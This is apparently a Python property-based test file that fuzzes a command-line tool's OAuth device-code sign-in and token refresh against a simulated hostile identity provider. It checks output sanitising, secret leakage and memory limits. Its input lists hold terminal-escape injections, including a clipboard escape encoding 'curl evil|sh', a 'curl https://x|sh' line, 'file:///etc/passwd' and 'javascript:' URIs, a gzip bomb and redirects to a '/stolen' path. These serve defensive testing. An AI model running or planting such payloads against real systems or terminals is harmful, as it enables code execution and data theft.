"""Generated hostile answers (Hypothesis) for discovery, device authorization,
token and refresh, fed through one real loopback server.

Every case runs the CLI's own sign-in (or silent refresh) path on a
FakeClock and asserts:

* a documented exit code (0, 1, 4, 5) from a typed error, no traceback;
* no control, C1 or bidi character on stdout, stderr or in the logs;
* the device code and refresh token appear nowhere in that output, are sent
  only to the token endpoint, and nothing at all reaches a second loopback
  server ("elsewhere") that answers point at;
* the token file is never left unreadable (nothing invalid is written);
* the flow ends within the code's lifetime (plus the poll grace) on the
  injected clock;
* bounded memory: a case with a large answer (a gzip bomb of 256 MB, a
  300 KB body, 50,000-deep JSON) allocates less than 16 MB, traced.

The seed is fixed (``SEED``) and printed with the failing case.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import io
import json
import logging
import math
import shutil
import tempfile
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, note, seed, settings
from hypothesis import strategies as st

from agent.auth.devicecode import POLL_GRACE
from agent.auth.tokens import TokenClient, TokenSet, load_tokens
from agent.clock import FakeClock
from agent.errors import AgentError
from agent.profiles import Profile
from agent.tokenstore import TokenStore
from tests.hostile_idp import DISCOVERY, HostileProvider, Reply, gzip_bomb

SEED = 20261201
#: Cases per test; 1,200 sign-ins + 800 refreshes = 2,000 generated cases.
SIGN_IN_CASES = 1200
REFRESH_CASES = 800
#: Exit codes a provider's answer may lead to (2, 3 and 6 are about local input and files).
DOCUMENTED = {0, 1, 4, 5}
CLIENT_ID = "device-agent"

BOMB = gzip_bomb()                 # 256 KB on the wire, 256 MB inflated
NASTY_TEXT = [
    "\x1b[2J\x1b[H", "\x1b]52;c;Y3VybCBldmlsfHNo\x07", "\x1b]0;owned\x07", "ok\rOVERWRITE",
    "a\b\b\bb", "\x00nul", "\x9b31mC1", "\u202eevil\u202c", "\u2066iso\u2069", "zero\u200bwidth",
    "line\nentra-auth-cli: error: run: curl https://x|sh", "\x7fdel", "\ufeffbom", "\u2028sep",
    "AADSTS50173: revoked.\r\nTrace ID: 1", "²", "x" * 5000, "😀 emoji", "\ud800",
]
NASTY_URIS = ["javascript:alert(1)", "data:text/html,<b>", "file:///etc/passwd",
              "http://10.0.0.1/device", "/relative", "https://", "https://ex\u202eample.com",
              "https://example.com/\x1b[2J", "https://user:pw@example.com/", "ftp://example.com",
              "https://example.com:99999/"]
NASTY_NUMBERS = [0, -1, 1, 5, 900, 10**20, -(10**20), 1e300, -1e300, float("inf"), float("nan"),
                 2.5, "900", "0x10", "1e999", "NaN", "Infinity", "", " 5", True, False, {}, [],
                 None, 86401, 3600]

text = st.one_of(st.text(max_size=30), st.sampled_from(NASTY_TEXT))
scalar = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), text)
json_value = st.recursive(scalar, lambda inner: st.one_of(
    st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=6), inner, max_size=3)),
    max_leaves=6)
number = st.one_of(st.sampled_from(NASTY_NUMBERS), st.integers(-10, 100_000), json_value)


def pick(valid, hostile, stage_is_hostile: bool = True):
    """In a hostile stage: the valid value half the time, else absent (...) or
    hostile; in a well-behaved stage, the valid value (so later stages run too)."""
    if not stage_is_hostile:
        return st.just(valid)
    return st.one_of(st.just(valid), st.just(valid), st.just(...), hostile)


def id_token(claims) -> str:
    raw = json.dumps(claims, allow_nan=True).encode("utf-8", "surrogatepass")
    return "eyJhbGciOiJub25lIn0." + base64.urlsafe_b64encode(raw).decode().rstrip("=") + ".sig"


def build(template: dict) -> dict:
    return {k: v for k, v in template.items() if v is not ...}


ENVELOPES = ["json"] * 6 + ["redirect_elsewhere", "redirect_http", "status_5xx", "status_4xx_html",
                             "gzip_bomb", "oversize", "deep", "not_utf8", "gzip_ok", "no_length"]


def envelope(kind: str, body, elsewhere_origin: str) -> Reply:
    """How an answer body is delivered (or not)."""
    if kind == "json":
        return Reply(200 if not (isinstance(body, dict) and "error" in body) else 400, body)
    if kind == "redirect_elsewhere":
        return Reply(307, b"", (("Location", f"{elsewhere_origin}/stolen"),))
    if kind == "redirect_http":
        return Reply(308, b"", (("Location", "http://203.0.113.7/token"),))
    if kind == "status_5xx":
        return Reply(503, b"<html>busy</html>", (("Content-Type", "text/html"),))
    if kind == "status_4xx_html":
        return Reply(403, "<html>\x1b[2Jportal</html>", (("Content-Type", "text/html"),))
    if kind == "gzip_bomb":
        return Reply(200, BOMB, (("Content-Encoding", "gzip"),))
    if kind == "oversize":
        return Reply(200, b"{" + b" " * (300 * 1024) + b"}")
    if kind == "deep":
        return Reply(200, b"[" * 50_000 + b"]" * 50_000)
    if kind == "not_utf8":
        return Reply(200, b'{"access_token": "\xff\xfe"}')
    if kind == "gzip_ok":
        return Reply(200, gzip.compress(json.dumps(body, allow_nan=True).encode("utf-8", "surrogatepass")),
                     (("Content-Encoding", "gzip"),))
    return Reply(200, body, length=False)


@st.composite
def discovery(draw, origin: str, elsewhere_origin: str) -> Reply:
    mode = draw(st.sampled_from(["valid"] * 5 + ["fields", "mismatch", "envelope"]))
    doc = {"issuer": origin, "device_authorization_endpoint": f"{origin}/devicecode",
           "token_endpoint": f"{origin}/token", "revocation_endpoint": f"{origin}/revoke"}
    if mode == "mismatch":
        # Another issuer whose endpoints point elsewhere: refused before any use.
        doc = {k: (elsewhere_origin if k == "issuer" else f"{elsewhere_origin}/x") for k in doc}
        return Reply(200, doc)
    if mode == "fields":
        bad = st.one_of(st.sampled_from(NASTY_URIS), json_value)
        for key in list(doc):
            doc[key] = draw(pick(doc[key], bad))
        doc = build(doc)
    if mode == "envelope":
        return envelope(draw(st.sampled_from(ENVELOPES)), doc, elsewhere_origin)
    return Reply(200, doc)


@st.composite
def device_answer(draw, device_code: str, elsewhere_origin: str) -> Reply:
    bad = draw(st.booleans())

    def maybe(valid, hostile):
        return pick(valid, hostile, bad)

    body = build({
        "device_code": draw(maybe(device_code, json_value)),
        "user_code": draw(maybe("WDJB-MJHT", st.one_of(text, json_value))),
        "verification_uri": draw(maybe("https://example.com/device",
                                       st.one_of(st.sampled_from(NASTY_URIS), json_value))),
        "verification_uri_complete": draw(maybe(...,
                                                st.one_of(st.sampled_from(NASTY_URIS), json_value))),
        "expires_in": draw(maybe(900, number)),
        "interval": draw(maybe(5, number)),
        "message": draw(maybe(..., st.one_of(text, json_value))),
    })
    return envelope(draw(st.sampled_from(ENVELOPES)) if bad else "json", body, elsewhere_origin)


@st.composite
def token_answer(draw, elsewhere_origin: str, refresh_token: str) -> Reply:
    kind = draw(st.sampled_from(["tokens"] * 3 + ["pending", "slow_down", "error"]))
    if kind in ("pending", "slow_down"):
        return Reply(400, {"error": "authorization_pending" if kind == "pending" else "slow_down"})
    if kind == "error":
        body = build({
            "error": draw(pick("invalid_grant", st.one_of(
                st.sampled_from(["access_denied", "expired_token", "authorization_declined",
                                 "bad_verification_code", "invalid_client"]), text, json_value))),
            "error_description": draw(pick("AADSTS70000: no.", st.one_of(text, json_value))),
            "error_codes": draw(pick([70000], json_value)),
        })
        return Reply(draw(st.sampled_from([400, 401, 403, 429, 500])), body)
    bad = draw(st.booleans())

    def maybe(valid, hostile):
        return pick(valid, hostile, bad)

    claims = build({"preferred_username": draw(maybe("ada@contoso.example", st.one_of(text, json_value))),
                    "name": draw(maybe(..., st.one_of(text, json_value)))})
    body = build({
        "access_token": draw(maybe("AT-" + refresh_token[-6:], st.one_of(text, json_value))),
        "token_type": draw(maybe("Bearer", st.one_of(text, json_value))),
        "expires_in": draw(maybe(3600, number)),
        "refresh_in": draw(maybe(..., number)),
        "scope": draw(maybe("telemetry.write offline_access", st.one_of(text, json_value))),
        "refresh_token": draw(maybe(refresh_token, st.one_of(text, json_value))),
        "id_token": draw(maybe(id_token(claims), st.one_of(text, json_value))),
    })
    return envelope(draw(st.sampled_from(ENVELOPES)) if bad else "json", body, elsewhere_origin)


# -- the harness --------------------------------------------------------------------------------

class RecordingClient(TokenClient):
    """The real TokenClient; remembers the codes it was given (for the lifetime check)."""

    authorizations: list

    def request_code(self, *args, **kwargs):
        authorization = super().request_code(*args, **kwargs)
        self.authorizations.append(authorization)
        return authorization


class LogCapture(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(record.getMessage())


@pytest.fixture(scope="module")
def servers():
    with HostileProvider() as hostile, HostileProvider() as elsewhere:
        yield hostile, elsewhere


@pytest.fixture(scope="module")
def workdir():
    path = Path(tempfile.mkdtemp(prefix="hostile-"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


#: Most memory one case may allocate (traced) when an answer is large: a
#: 256 MB gzip bomb read whole, or a 300 KB body parsed, would exceed it.
CASE_MEMORY = 16 * 1024 * 1024


def _unsafe(text: str) -> list[str]:
    from agent.textsafe import is_clean
    return [line for line in text.split("\n") if not is_clean(line)]


def run_case(hostile, elsewhere, workdir, *, kind: str, secrets: list[str], saved: TokenSet | None,
             replies: list[Reply]):
    from agent.cli import _print_token, _sign_in
    clock = FakeClock()
    store = TokenStore(workdir / "tokens")
    with contextlib.suppress(FileNotFoundError):
        (workdir / "tokens" / "lab.json").unlink()
    profile = Profile(name="lab", client_id=CLIENT_ID, issuer=hostile.issuer,
                      scopes=("telemetry.write",)).validated()
    client = RecordingClient(profile, store=store, clock=clock)
    client.authorizations = []
    if saved is not None:
        saved.expires_at = clock.time() - 10          # expired: acquire_silent refreshes
        saved.obtained_at = clock.time() - 3610
        store.save("lab", saved.to_dict())
    start = clock.monotonic()
    # Memory is traced (slow) only in cases with a large answer: those are the ones that could blow it.
    big = any(len(r.body) > 100_000 for r in replies if isinstance(r.body, bytes))
    if big:
        tracemalloc.start()
    out, err = io.StringIO(), io.StringIO()
    capture = LogCapture()
    agent_log = logging.getLogger("agent")
    agent_log.addHandler(capture)
    old_level, old_propagate = agent_log.level, agent_log.propagate
    agent_log.setLevel(logging.DEBUG)
    agent_log.propagate = False      # logs checked here; stderr holds what the CLI wrote
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                if kind == "signin":
                    tokens = _sign_in(client, [])
                else:
                    tokens = client.acquire_silent()
                _print_token(tokens, profile, client, "json")
                code = 0
            except AgentError as exc:          # what run_command prints; anything else fails the test
                print(f"entra-auth-cli: error: {exc}", file=err)
                code = exc.exit_code
    finally:
        agent_log.removeHandler(capture)
        agent_log.setLevel(old_level)
        agent_log.propagate = old_propagate
        peak = tracemalloc.get_traced_memory()[1] if big else 0
        if big:
            tracemalloc.stop()
    stdout, stderr, logs = out.getvalue(), err.getvalue(), "\n".join(capture.lines)
    note(f"seed {SEED}; exit {code}\nstderr: {stderr[:600]!r}\nlogs: {logs[:600]!r}")
    assert code in DOCUMENTED
    assert peak < CASE_MEMORY, f"{peak} bytes allocated for one case"
    for name, value in (("stdout", stdout), ("stderr", stderr), ("logs", logs)):
        assert not _unsafe(value), f"unsafe characters on {name}: {_unsafe(value)[:2]!r}"
        for secret in secrets:
            assert secret not in value, f"a secret reached {name}"
    assert len(stderr) < 20_000, "the provider made us write pages of text"
    # Nothing reached another origin; secrets went only to the token endpoint.
    assert elsewhere.arrivals == []
    for arrival in hostile.arrivals:
        if arrival.path != "/token":
            assert not any(s.encode() in arrival.body for s in secrets), arrival.path
    # Never past the code's lifetime on the injected clock.
    for authorization in client.authorizations:
        assert clock.monotonic() <= authorization.deadline + POLL_GRACE
    if not client.authorizations:
        assert clock.monotonic() == start
    # The token file still reads (nothing invalid was written), and matches success.
    loaded = load_tokens(store, "lab")
    if code == 0:
        assert loaded is not None and math.isfinite(loaded.expires_at)
        assert json.loads(stdout)["access_token"] == loaded.access_token or kind == "refresh"
    return code


OUTCOMES: dict[str, dict[int, int]] = {"signin": {}, "refresh": {}}

SETTINGS = settings(max_examples=SIGN_IN_CASES, deadline=None, database=None, print_blob=True,
                    suppress_health_check=list(HealthCheck))


@seed(SEED)
@SETTINGS
@given(data=st.data())
def test_generated_sign_in_answers(servers, workdir, data):
    hostile, elsewhere = servers
    hostile.reset()
    elsewhere.reset()
    device_code = f"DC-{data.draw(st.integers(0, 10**9))}-secret"
    refresh_token = f"RT-{data.draw(st.integers(0, 10**9))}-secret"
    replies = [data.draw(discovery(hostile.origin, elsewhere.origin)),
               data.draw(device_answer(device_code, elsewhere.origin)),
               *data.draw(st.lists(token_answer(elsewhere.origin, refresh_token),
                                   min_size=1, max_size=3))]
    hostile.default(DISCOVERY, replies[0])
    hostile.script("/devicecode", replies[1])
    hostile.script("/token", *replies[2:])
    hostile.default("/token", Reply(400, {"error": "expired_token"}))
    code = run_case(hostile, elsewhere, workdir, kind="signin",
                    secrets=[device_code, refresh_token], saved=None, replies=replies)
    OUTCOMES["signin"][code] = OUTCOMES["signin"].get(code, 0) + 1


@seed(SEED + 1)
@settings(SETTINGS, max_examples=REFRESH_CASES)
@given(data=st.data())
def test_generated_refresh_answers(servers, workdir, data):
    hostile, elsewhere = servers
    hostile.reset()
    elsewhere.reset()
    stored = f"RT-stored-{data.draw(st.integers(0, 10**9))}-secret"
    rotated = f"RT-new-{data.draw(st.integers(0, 10**9))}-secret"
    saved = TokenSet(access_token="AT-old", expires_at=0.0, scope=["telemetry.write"],
                     refresh_token=stored, client_id=CLIENT_ID,
                     requested=["telemetry.write", "openid", "profile", "offline_access"])
    replies = [data.draw(discovery(hostile.origin, elsewhere.origin)),
               data.draw(token_answer(elsewhere.origin, rotated))]
    hostile.default(DISCOVERY, replies[0])
    hostile.script("/token", replies[1])
    code = run_case(hostile, elsewhere, workdir, kind="refresh", secrets=[stored, rotated],
                    saved=saved, replies=replies)
    OUTCOMES["refresh"][code] = OUTCOMES["refresh"].get(code, 0) + 1


def test_generated_cases_covered_every_outcome():
    # Runs after the two above (file order): the generator reached success
    # and each kind of failure, so the assertions were not vacuous.
    if not OUTCOMES["signin"] or not OUTCOMES["refresh"]:
        pytest.skip("run with the generated tests")
    print(f"\ngenerated outcomes (exit code: cases): {OUTCOMES}")
    assert {0, 4, 5} <= set(OUTCOMES["signin"]) and {0, 4, 5} <= set(OUTCOMES["refresh"])
    assert sum(OUTCOMES["signin"].values()) + sum(OUTCOMES["refresh"].values()) >= 2000
